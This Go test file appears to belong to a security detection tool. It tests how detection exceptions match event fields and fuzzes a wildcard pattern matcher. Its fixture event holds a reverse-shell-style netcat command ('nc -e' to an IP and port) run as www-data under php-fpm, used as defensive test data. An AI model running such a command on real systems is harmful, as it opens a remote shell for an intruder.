package detect

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/store"
)

func TestExceptionMatch(t *testing.T) {
	ev := event.Event{}
	ev.Set("process.command_line", "/usr/bin/nc -e /usr/lib/probe 192.0.2.10 9000")
	ev.Set("process.args", []any{"/usr/bin/nc", "-e", "/usr/lib/probe"})
	ev.Set("process.pid", float64(4242))
	ev.Set("process.stdio", []any{
		map[string]any{"fd": float64(0), "type": "socket", "transport": "tcp"},
		map[string]any{"fd": float64(1), "type": "pipe"},
	})
	ev.Set("process.ancestry", []any{map[string]any{"name": "php-fpm8.2", "pid": float64(700)}})
	ev["user.name"] = "www-data" // a flat dotted key
	tests := []struct {
		name  string
		match map[string][]string
		want  bool
	}{
		{"empty matches all", nil, true},
		{"wildcards, case", map[string][]string{"process.command_line": {"*192.0.2.*"}}, true},
		{"case-insensitive", map[string][]string{"process.command_line": {"/USR/BIN/NC *"}}, true},
		{"one of the patterns", map[string][]string{"process.command_line": {"nope", "*probe*"}}, true},
		{"every field", map[string][]string{"process.command_line": {"*probe*"}, "user.name": {"root"}}, false},
		{"flat key", map[string][]string{"user.name": {"www-*"}}, true},
		{"list element", map[string][]string{"process.args": {"-e"}}, true},
		{"number", map[string][]string{"process.pid": {"42?2"}}, true},
		{"object in a list", map[string][]string{"process.stdio.transport": {"tcp"}}, true},
		{"object in a list, no match", map[string][]string{"process.stdio.transport": {"udp"}}, false},
		{"ancestry", map[string][]string{"process.ancestry.name": {"php-fpm*"}}, true},
		{"missing field", map[string][]string{"file.path": {"*"}}, false},
		{"question mark is one character", map[string][]string{"user.name": {"www-dat?"}}, true},
		{"escaped star", map[string][]string{"user.name": {`www\*data`}}, false},
		{"whole value", map[string][]string{"user.name": {"www"}}, false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			c := compileException(store.Exception{ID: "x", Match: tc.match})
			if got := c.matches(ev); got != tc.want {
				t.Errorf("matches %v, want %v", got, tc.want)
			}
		})
	}
}

// FuzzPattern checks the wildcard matcher against a reference that
// tries every split (exponential, fine for short inputs).
func FuzzPattern(f *testing.F) {
	for _, s := range [][2]string{{"*a*b", "xaxb"}, {"a?c", "abc"}, {`\*`, "*"}, {"**", ""}, {"*é?", "aéz"}} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, pat, s string) {
		if len(pat) > 12 || len(s) > 24 || !utf8.ValidString(pat) || !utf8.ValidString(s) {
			return
		}
		p := compilePattern(pat)
		if got, want := p.match(s), refMatch(p.parts, []rune(strings.ToLower(s))); got != want {
			t.Fatalf("%q ~ %q: %v, reference %v", pat, s, got, want)
		}
	})
}

func refMatch(parts []patternPart, s []rune) bool {
	if len(parts) == 0 {
		return len(s) == 0
	}
	p := parts[0]
	switch {
	case p.star:
		for i := 0; i <= len(s); i++ {
			if refMatch(parts[1:], s[i:]) {
				return true
			}
		}
		return false
	case p.one:
		return len(s) > 0 && refMatch(parts[1:], s[1:])
	}
	lit := []rune(p.lit)
	if len(s) < len(lit) || string(s[:len(lit)]) != p.lit {
		return false
	}
	return refMatch(parts[1:], s[len(lit):])
}
